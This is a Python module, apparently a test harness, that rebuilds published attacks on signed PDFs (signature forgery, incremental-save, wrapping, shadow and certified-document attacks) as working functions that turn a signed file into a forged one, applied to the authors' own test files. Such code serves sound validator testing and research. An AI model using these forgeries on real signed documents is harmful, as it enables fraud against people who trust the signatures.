"""The published classes of attack on signed PDFs, rebuilt from their descriptions on files of our own.

Universal forgery, incremental saving and wrapping (Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk: "1 Trillion
Dollar Refund", CCS 2019), shadow attacks (the same school, NDSS 2021), attacks on certified documents (S&P 2021).
Each function takes the bytes of a signed file and gives those of the forged one.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.content import RawContent
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.layout import BoxConstraints
from pyhanko.pdf_utils.reader import PdfFileReader

Forge = Callable[[bytes], bytes]
BLACK = b"0 0 595 842 re f"


def signature(signed: bytes) -> tuple[list[int], bytes]:
    """The byte range of the last signature and what stands in its gap."""
    reader = PdfFileReader(io.BytesIO(signed), strict=False)
    numbers = [int(number) for number in reader.embedded_signatures[-1].byte_range]
    return numbers, signed[numbers[1] : numbers[2]]


def update(signed: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """A well-formed incremental update by somebody else."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def page_of(handler: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    return handler.root["/Pages"]["/Kids"][0]


# universal signature forgery: a dictionary that a careless program cannot check, and takes for good


def byte_range(value: bytes) -> Forge:
    """Another value of /ByteRange in the signed bytes themselves."""

    def forge(signed: bytes) -> bytes:
        start = signed.rindex(b"/ByteRange [")
        end = signed.index(b"]", start) + 1
        room = end - start
        entry = b"/ByteRange " + value if value else b""
        while signed[end : end + 1] == b" " and len(entry) > room:
            end, room = end + 1, room + 1
        assert len(entry) <= room
        return signed[:start] + entry.ljust(room) + signed[end:]

    return forge


def contents(value: bytes) -> Forge:
    """Another value of /Contents, the place kept by spaces."""

    def forge(signed: bytes) -> bytes:
        (_, start, end, _), gap = signature(signed)
        return signed[:start] + value.ljust(len(gap)) + signed[end:]

    return forge


def redefined(change: Callable[[generic.DictionaryObject], None]) -> Forge:
    """The signature dictionary again in an update, changed, with a page blackened beside it."""

    def forge(signed: bytes) -> bytes:
        def appended(writer: IncrementalPdfFileWriter) -> None:
            fields = writer.root["/AcroForm"]["/Fields"]
            field = fields[len(fields) - 1]
            old = field["/V"]
            copied = generic.DictionaryObject(
                {key: old.raw_get(key) for key in old if key not in ("/Contents", "/ByteRange")}
            )
            copied[pdf_name("/Contents")] = generic.ByteStringObject(signature(signed)[1][1:-1])
            copied[pdf_name("/ByteRange")] = generic.ArrayObject(
                [generic.NumberObject(number) for number in signature(signed)[0]]
            )
            change(copied)
            field[pdf_name("/V")] = writer.add_object(copied)
            writer.update_container(field)
            blacken(writer)

        return update(signed, appended)

    return forge


def without(key: str) -> Callable[[generic.DictionaryObject], None]:
    def change(dictionary: generic.DictionaryObject) -> None:
        del dictionary[key]

    return change


def with_null(key: str) -> Callable[[generic.DictionaryObject], None]:
    def change(dictionary: generic.DictionaryObject) -> None:
        dictionary[pdf_name(key)] = generic.NullObject()

    return change


# incremental saving: what is added afterwards is shown, and taken for signed


def blacken(writer: IncrementalPdfFileWriter) -> None:
    page = page_of(writer)
    page[pdf_name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=BLACK))
    writer.update_container(page)


def saved(signed: bytes) -> bytes:
    return update(signed, blacken)


def cut(marker: bytes) -> Forge:
    """The update without its end: what readers that search for objects still see."""

    def forge(signed: bytes) -> bytes:
        whole = saved(signed)
        return whole[: whole.rindex(marker)]

    return forge


def objects_only(signed: bytes) -> bytes:
    """A page's content redefined after the end, with no table at all."""
    number = PdfFileReader(io.BytesIO(signed), strict=False).root["/Pages"]["/Kids"][0]["/Contents"].raw_get(0).idnum
    return signed + b"\n%d 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n" % (number, len(BLACK), BLACK)


def objects_and_trailer(signed: bytes) -> bytes:
    """Objects and a trailer that names the old table; no table for the objects."""
    start = signed.rindex(b"startxref")
    return objects_only(signed) + b"trailer\n<</Size 99/Root 1 0 R>>\n" + signed[start:]


def with_the_signature_again(signed: bytes) -> bytes:
    """The update ends with a copy of the signature's own bytes, for readers that look for it at the end."""
    (_, _, end, length), gap = signature(signed)
    return saved(signed) + b"\n% " + gap + signed[end : end + length]


def second_end(signed: bytes) -> bytes:
    return signed + b"\n%%EOF\n"


def words_after_the_end(signed: bytes) -> bytes:
    return signed + b"\nTEST bytes that nobody signed\n"


# signature wrapping: the signed bytes moved apart, others in between


def wrapped(signed: bytes) -> bytes:
    """The second signed part moved to the end; a table that is not signed lies where the signed one was.

    The part at the end names the offset of its table.  There, between the two signed parts, lies another one: it
    leads to a copy of the signature dictionary that names the parts where they are now, and to another page.
    """
    (_, first, tail, _), gap = signature(signed)
    second = signed[tail:]
    table_at = int(re.findall(rb"startxref\s+(\d+)", second)[-1])
    reader = PdfFileReader(io.BytesIO(signed), strict=False)
    sheet = reader.root["/Pages"]["/Kids"][0]
    old = reader.embedded_signatures[-1].sig_object
    page, sig, size = sheet.container_ref.idnum, old.container_ref.idnum, int(reader.trailer["/Size"])
    moved = table_at + 8192 + 2 * len(gap)
    at = {number: offset + (moved - tail if offset >= tail else 0) for number, offset in _table(signed[table_at:])}
    names = str(old["/SubFilter"]).encode()
    bodies = {
        sig: b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter%s/Contents %s/ByteRange[0 %d %d %d]>>"
        % (names, gap, first, moved, len(second)),
        size: b"<</Length %d>>\nstream\n%s\nendstream" % (len(BLACK), BLACK),
        page: b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Contents %d 0 R/Resources<<>>/Annots %s>>"
        % (reader.root.raw_get("/Pages").idnum, size, _references(sheet["/Annots"])),
    }
    start = table_at + 4096
    objects = b""
    for number, body in bodies.items():
        at[number] = start + len(objects)
        objects += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % (number, at[number]) for number in sorted(at))
    previous = int(re.findall(rb"/Prev (\d+)", second)[-1])
    table += b"trailer\n<</Size %d/Root %d 0 R/Prev %d>>\n" % (
        size + 1,
        reader.trailer.raw_get("/Root").idnum,
        previous,
    )
    whole = (signed[:first] + gap).ljust(table_at) + table
    return (whole.ljust(start) + objects).ljust(moved) + second


def _table(section: bytes) -> list[tuple[int, int]]:
    """The entries in use of a table: number and offset."""
    found = []
    lines = section.partition(b"trailer")[0].split(b"\n")[1:]
    number = 0
    for line in lines:
        parts = line.split()
        if len(parts) == 2:
            number = int(parts[0])
        elif len(parts) == 3:
            if parts[2] == b"n":
                found.append((number, int(parts[0])))
            number += 1
    return found


def _references(array: generic.ArrayObject) -> bytes:
    return b"[" + b" ".join(b"%d 0 R" % array.raw_get(n).idnum for n in range(len(array))) + b"]"


def moved_apart(signed: bytes) -> bytes:
    """The second part moved behind a comment, the byte range in place made to point at it."""
    (_, length, second, tail), _ = signature(signed)
    moved = signed + b"%" * 200 + signed[second : second + tail]
    old = b"/ByteRange [%d %d %d %d]" % (0, length, second, tail)
    new = b"/ByteRange [%d %d %d %d]" % (0, length, len(signed) + 200, tail)
    assert old in moved
    return moved.replace(old + b" " * (len(new) - len(old)), new, 1)


# the place of the signature


def padding(signed: bytes) -> bytes:
    """Bytes behind the signature, in the room that nothing signs."""
    (_, start, _, _), gap = signature(signed)
    hidden = b"TEST hidden".hex().encode()
    at = start + len(gap) - 1 - len(hidden)
    assert signed[at : at + len(hidden)] == b"0" * len(hidden)
    return signed[:at] + hidden + signed[at + len(hidden) :]


# shadow attacks: what was prepared before the signature is uncovered after it


def update_table(signed: bytes, entries: dict[int, bytes]) -> bytes:
    """An update that is only a table: objects already in the file, or freed."""
    reader = PdfFileReader(io.BytesIO(signed), strict=False)
    table = b"xref\n" + b"".join(b"%d 1\n%s\n" % (number, entries[number]) for number in sorted(entries))
    start = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
    root = reader.trailer.raw_get("/Root").idnum
    size = int(reader.trailer["/Size"])
    end = b"trailer\n<</Size %d/Root %d 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
    return signed + table + end % (size, root, start, len(signed))


def freed(signed: bytes) -> bytes:
    """Hide: the cover drawn over the prepared text is freed by a table."""
    reader = PdfFileReader(io.BytesIO(signed), strict=False)
    cover = reader.root["/Pages"]["/Kids"][0]["/Contents"].raw_get(1)
    return update_table(signed, {cover.idnum: b"0000000000 65535 f "})


def pointed(signed: bytes) -> bytes:
    """Hide and replace: the table leads to another object that lay in the signed bytes, unreferenced."""
    number = PdfFileReader(io.BytesIO(signed), strict=False).root["/Pages"]["/Kids"][0]["/Contents"].raw_get(0).idnum
    shadow = signed.index(b"%d 0 obj" % number, signed.index(b"%TEST shadow"))
    return update_table(signed, {number: b"%010d 00000 n " % shadow})


def other_font(signed: bytes) -> bytes:
    """Replace: a font that draws other figures under the same codes."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        font = page_of(writer)["/Resources"]["/Font"]["/F1"]
        font[pdf_name("/BaseFont")] = pdf_name("/ZapfDingbats")
        writer.update_container(font)

    return update(signed, change)


def other_value(signed: bytes) -> bytes:
    """Replace: the text field's appearance says something else than its value."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        box = BoxConstraints(width=200, height=20)
        drawn = RawContent(b"BT /F1 12 Tf (1 000 000 DH) Tj ET", box=box).as_form_xobject()
        field = writer.root["/AcroForm"]["/Fields"][0]
        field[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(drawn)})
        writer.update_container(field)

    return update(signed, change)


def layer(signed: bytes) -> bytes:
    """Replace: another layer is shown by default."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        shown = writer.root["/OCProperties"]["/D"]
        layers = writer.root["/OCProperties"]["/OCGs"]
        shown[pdf_name("/OFF")] = generic.ArrayObject([layers.raw_get(0)])
        shown[pdf_name("/ON")] = generic.ArrayObject([layers.raw_get(1)])
        writer.update_root()

    return update(signed, change)


# attacks on certified documents, and annotations on any


def annotation(subtype: str, *, appearance: bool = True) -> Forge:
    """Evil annotation: one that covers the page."""

    def forge(signed: bytes) -> bytes:
        def change(writer: IncrementalPdfFileWriter) -> None:
            page = page_of(writer)
            over = generic.DictionaryObject(
                {
                    pdf_name("/Type"): pdf_name("/Annot"),
                    pdf_name("/Subtype"): pdf_name(subtype),
                    pdf_name("/F"): generic.NumberObject(4),
                    pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 842)]),
                }
            )
            if appearance:
                drawn = RawContent(BLACK, box=BoxConstraints(width=595, height=842)).as_form_xobject()
                over[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(drawn)})
            if "/Annots" not in page:
                page[pdf_name("/Annots")] = generic.ArrayObject()
            page["/Annots"].append(writer.add_object(over))
            writer.update_container(page["/Annots"] if page["/Annots"].container_ref else page)
            writer.update_container(page)

        return update(signed, change)

    return forge


def sneaky_field(signed: bytes) -> bytes:
    """Sneaky signature, unsigned: an empty signature field whose look covers the page."""
    from pyhanko.sign.fields import SigFieldSpec, append_signature_field

    def change(writer: IncrementalPdfFileWriter) -> None:
        append_signature_field(writer, SigFieldSpec("Sneaky", on_page=0, box=(0, 0, 595, 842)))
        fields = writer.root["/AcroForm"]["/Fields"]
        field = fields[len(fields) - 1]
        drawn = RawContent(BLACK, box=BoxConstraints(width=595, height=842)).as_form_xobject()
        field[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(drawn)})
        writer.update_container(field)

    return update(signed, change)


def opening_action(signed: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        action = {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): generic.pdf_string("app.alert('TEST')")}
        writer.root[pdf_name("/OpenAction")] = generic.DictionaryObject(action)
        writer.update_root()

    return update(signed, change)


def more_pages(signed: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        pages = writer.root["/Pages"]
        extra = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Page"),
                pdf_name("/Parent"): writer.root.raw_get("/Pages"),
                pdf_name("/MediaBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 842)]),
            }
        )
        pages["/Kids"].append(writer.add_object(extra))
        pages[pdf_name("/Count")] = generic.NumberObject(len(pages["/Kids"]))
        writer.update_container(pages)

    return update(signed, change)


def field_dropped(signed: bytes) -> bytes:
    """The signature taken out of the form: the file says that nobody signed."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        writer.root["/AcroForm"][pdf_name("/Fields")] = generic.ArrayObject()
        writer.update_container(writer.root["/AcroForm"])

    return update(signed, change)


def moved_widget(signed: bytes) -> bytes:
    """The visible signature moved and widened over what was signed."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        fields = writer.root["/AcroForm"]["/Fields"]
        field = fields[len(fields) - 1]
        field[pdf_name("/Rect")] = generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 842)])
        writer.update_container(field)

    return update(signed, change)
